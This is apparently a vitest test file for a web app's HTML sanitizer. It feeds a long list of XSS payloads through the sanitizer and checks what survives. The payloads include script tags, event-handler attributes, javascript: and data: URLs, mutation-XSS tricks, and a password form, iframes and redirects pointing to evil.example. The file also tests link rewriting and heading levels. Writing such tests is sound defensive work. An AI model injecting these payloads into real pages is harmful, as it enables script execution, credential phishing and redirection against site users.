import { hasScriptTag } from '@domain/shared/localized';
import { expect, test } from 'vitest';
import { sanitize } from '@/ui/text/sanitized-text';

const markup = (html: string, highest = 2): string => {
  const holder = document.createElement('div');
  holder.append(sanitize(html, highest));
  return holder.innerHTML;
};

const KEPT = new Set(
  'H2 H3 H4 H5 H6 P BR HR DIV SPAN BLOCKQUOTE PRE CODE STRONG B EM I U S SUB SUP SMALL MARK ABBR A UL OL LI DL DT DD TABLE CAPTION THEAD TBODY TFOOT TR TH TD'.split(
    ' ',
  ),
);
const KEPT_ATTRIBUTES = new Set('href title lang dir colspan rowspan scope start rel target'.split(' '));

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)"//>',
  '<img srcset="https://evil.example/a 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/v/demo">x</a>',
  '<a href="https://fine.example" onclick="alert(1)" target="top" rel="opener">x</a>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>x',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>body{background:url(https://evil.example)}</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<div id="root" class="x" name="cookie">x</div>',
  '<p data-x="1" aria-hidden="true">x</p>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xss-element onclick=alert(1)>x</xss-element>',
  '<p><!--><img src=x onerror=alert(1)>--></p>',
  '<table background="javascript:alert(1)"><tr><td background="https://evil.example">x</td></tr></table>',
];

test.each(PAYLOADS)('%s leaves no content that runs, loads or redirects', (payload) => {
  const holder = document.createElement('div');
  holder.append(sanitize(payload, 2));
  const elements = [...holder.querySelectorAll('*')];
  expect(elements.filter(({ tagName }) => !KEPT.has(tagName))).toEqual([]);
  const attributes = elements.flatMap((element) => [...element.attributes]);
  expect(attributes.filter(({ name }) => !KEPT_ATTRIBUTES.has(name))).toEqual([]);
  const addresses = elements.map((element) => element.getAttribute('href')).filter((href) => href !== null);
  expect(addresses.filter((href) => !/^(https:\/\/|mailto:)/.test(href))).toEqual([]);
});

test('https and mail links stay, open in a new tab and send no referrer', () => {
  expect(markup('<a href="https://fine.example/a?b=1" target="top" rel="opener">x</a>')).toBe(
    '<a href="https://fine.example/a?b=1" rel="noopener" target="_blank">x</a>',
  );
  expect(markup('<a href="mailto:desk@hall.example">x</a>')).toBe(
    '<a href="mailto:desk@hall.example" rel="noopener">x</a>',
  );
});

test.each([
  { html: '<h1>a</h1><h2>b</h2>', highest: 2, becomes: '<h2>a</h2><h3>b</h3>' },
  { html: '<h3>a</h3><h2>b</h2><h4>c</h4>', highest: 2, becomes: '<h3>a</h3><h2>b</h2><h4>c</h4>' },
  { html: '<h2>a</h2>', highest: 3, becomes: '<h3>a</h3>' },
  { html: '<h1>a</h1><h6>b</h6>', highest: 3, becomes: '<h3>a</h3><h6>b</h6>' },
  { html: '<h4>a <em>b</em></h4>', highest: 2, becomes: '<h2>a <em>b</em></h2>' },
])('headings $html begin at level $highest', ({ html, highest, becomes }) => {
  expect(markup(html, highest)).toBe(becomes);
});

test('basic formatting, lists and tables stay as they are', () => {
  const html =
    '<p>a <strong>b</strong><br>c</p><ul><li>d</li></ul><table><tbody><tr><th scope="row">e</th><td colspan="2">f</td></tr></tbody></table>';
  expect(markup(html)).toBe(html);
});

test.each([
  ['<script>', true],
  ['<p>x</p>< script src=a>', true],
  ['</script>', true],
  ['<SCRIPT\n>', true],
  ['<p>the word script</p>', false],
  ['<scripture>', false],
  ['&lt;script&gt;', false],
])('%s has a script tag: %s', (html, expected) => {
  expect(hasScriptTag(html)).toBe(expected);
});
